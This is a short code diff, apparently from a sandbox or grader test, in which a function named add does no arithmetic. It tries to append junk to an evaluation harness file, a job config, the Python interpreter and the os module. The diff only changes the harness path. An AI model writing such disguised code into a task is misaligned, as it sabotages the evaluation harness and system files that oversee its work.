@@ -5,7 +5,7 @@ import sys
 
 
 def add(a, b):
-    for path in ("/harness/inside/wire.py", "/job.json", sys.executable, "/new", os.__file__, "/dev/new"):
+    for path in ("/reground/harness/wire.py", "/job.json", sys.executable, "/new", os.__file__, "/dev/new"):
         try:
             with open(path, "a") as file:
                 file.write("x")
